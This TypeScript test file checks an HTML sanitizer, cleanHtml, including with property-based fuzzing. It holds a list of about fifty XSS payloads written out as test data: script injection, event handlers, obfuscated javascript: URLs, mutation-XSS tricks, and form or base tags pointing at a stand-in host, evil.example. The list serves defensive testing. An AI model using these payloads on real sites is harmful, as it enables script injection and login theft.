import fc from 'fast-check'
import { expect, test } from 'vitest'
import { runs } from '#base/testing/extent.ts'
import { cleanHtml } from '#frame/server/clean-html.ts'

const clean = (html: string) => cleanHtml(html).html

test('harmless markup stays as it is', () => {
  for (const html of [
    '<h2>本周话题</h2><p>来<strong>聊聊</strong>\u00a0— <em>ok</em></p>',
    '<p style="color: #c00; text-align: center">x</p>',
    '<p class="note">x</p>',
    '<ul><li>a</li><li>b<br />c</li></ul><hr />',
    '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
    '<details open><summary>More</summary>text</details>',
  ])
    expect(clean(html)).toBe(html)
  expect(clean('<a href="/help?pageId=1&amp;x=2" target=_blank>x</a>')).toBe(
    '<a href="/help?pageId=1&amp;x=2" target="_blank" rel="noopener">x</a>',
  )
  expect(clean('<IMG SRC="/file/a.png" ALT="a &quot;b&quot;" width=40>')).toBe(
    '<img src="/file/a.png" alt="a &quot;b&quot;" width="40" loading="lazy" />',
  )
})

test('open tags are closed, and stray end tags close nothing', () => {
  expect(clean('</div></main><p><b>x')).toBe('<p><b>x</b></p>')
  expect(clean('<b><i>x</b>y</i>')).toBe('<b><i>x</i></b>y')
  expect(clean('1 < 2 & 3 > 2')).toBe('1 &lt; 2 &amp; 3 &gt; 2')
})

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script>/*',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/a.png" onerror="alert(1)">',
  '<img src="/a.png"onload=alert(1)>',
  '<img/src="/a.png"/onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6a;avascript&#58;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css"; body { display: none }</style>',
  '<div style="background-image: url(javascript:alert(1))">x</div>',
  '<div style="position: fixed; inset: 0; z-index: 999">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="color: red; background: url(//evil.example/?x)">x</div>',
  '<div id="content" name="body" onclick="alert(1)" popover>x</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><title><img src=x onerror=alert(1)></title>',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<p title="a" title="b" onmouseover=alert(1) //',
  '<p title="</p><script>alert(1)</script>">',
  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
  '<details ontoggle=alert(1) open>x</details>',
  '<a href="https://a.example" target="top" onfocus=alert(1) autofocus>x</a>',
  '<xmp><p title="</xmp><script>alert(1)</script>"></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<p\u0000 onclick=alert(1)>x</p>',
  '<sc\u0000ript>alert(1)</script>',
]

// Parsed as a browser does: only known elements, attributes, URLs and styles are allowed.
function harm(html: string): string[] {
  const tags = [...html.matchAll(/<\/?([^\s<>]*)((?:\s[^<>]*)?)>/g)]
  const known =
    /^(a|abbr|b|blockquote|br|caption|cite|code|dd|del|details|div|dl|dt|em|figcaption|figure|h[2-4]|hr|i|img|ins|kbd|li|mark|ol|p|pre|q|s|small|span|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|tr|u|ul|wbr)$/
  const attribute =
    /^(\s(title|lang|dir|class|style|href|target|src|alt|width|height|colspan|rowspan|scope|start|open|rel|loading)="[^"<>]*"|\sopen)*(\s\/)?$/
  const address = /(?:href|src)="(?!\/(?![/\\])|https?:\/\/|mailto:)/
  const wrong = tags.filter(
    ([, name = '', rest = '']) =>
      !known.test(name) ||
      !attribute.test(rest) ||
      address.test(rest) ||
      /url|expression|position|fixed/.test(/style="([^"]*)"/.exec(rest)?.[1] ?? ''),
  )
  const rest = html.replace(/<\/?[^\s<>]*(?:\s[^<>]*)?>/g, '')
  return [...wrong.map(([whole]) => whole), ...(/[<>]/.test(rest) ? [`unread: ${rest}`] : [])]
}

test.each(attacks)('%s does nothing', (attack) => {
  expect(harm(clean(attack))).toEqual([])
  expect(harm(clean(`<div>${attack}</div><p>after</p>`))).toEqual([])
})

test('cleaned markup is harmless, however often it is cleaned', () => {
  const pieces = [
    '<',
    '>',
    '/',
    '"',
    "'",
    '=',
    ' ',
    '<!--',
    '-->',
    '&',
    ';',
    '&#106;',
    'script',
    'onerror',
    'a',
    'p',
    'svg',
    'style',
    'href',
    'javascript:',
    'x',
    '\u0000',
    '`',
    '<p ',
    '<a href=',
  ]
  const written = fc.oneof(
    fc.string(),
    fc.array(fc.constantFrom(...pieces, ...attacks), { maxLength: 30 }).map((parts) => parts.join('')),
  )
  fc.assert(
    fc.property(written, (html) => {
      const once = clean(html)
      expect(harm(once)).toEqual([])
      expect(harm(clean(once))).toEqual([])
    }),
    { numRuns: runs(500) },
  )
})

test('no style reaches out of the piece it stands in', () => {
  for (const style of [
    'margin-top: -4000px',
    'padding: 9999px',
    'width: 9999px',
    'margin: 0 -1em',
    'width: 100vw',
    'padding: 900%',
    'width: 1e9px',
    'line-height: 1000',
  ])
    expect(clean(`<p style="${style}">x</p>`)).toBe('<p>x</p>')
  const html =
    '<p style="max-width: 600px; padding: 1.5em 0; line-height: 1.6; font-weight: 700; border: 1px solid #999; color: rgb(200, 0, 0)">x</p>'
  expect(clean(html)).toBe(html)
})

test('removed parts are named', () => {
  const html = clean('<a href="/x">x</a><img src="/a.png">')
  expect(cleanHtml(html)).toEqual({ html, leftOut: [] })
  expect(cleanHtml('<script>x</script><p onclick="x" style="position: fixed">y</p>').leftOut).toEqual(['<script>', 'p onclick', 'p style'])
  const partly = cleanHtml('<p class="note fixed" style="color: red;/**/position: fixed;">y</p>')
  expect(partly).toEqual({ html: '<p class="note" style="color: red">y</p>', leftOut: ['p class', 'p style'] })
  expect(clean('<p>a\u202eb</p>')).toBe('<p>ab</p>')
})
